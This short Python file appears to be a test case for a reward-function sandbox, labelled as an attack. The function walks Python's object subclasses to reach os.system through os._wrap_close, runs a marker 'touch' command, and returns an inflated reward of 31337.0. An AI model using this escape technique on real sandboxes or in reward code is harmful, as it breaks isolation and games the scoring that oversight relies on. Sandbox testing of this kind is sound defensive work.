# Attack: walk ().__class__.__bases__[0].__subclasses__() to find os._wrap_close.
# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
def reward_function(params):
    for cls in ().__class__.__bases__[0].__subclasses__():
        if cls.__name__ == "_wrap_close":
            cls.__init__.__globals__["system"]("touch /tmp/reward_sandbox_attack_marker")
            return 31337.0
    return 0.0
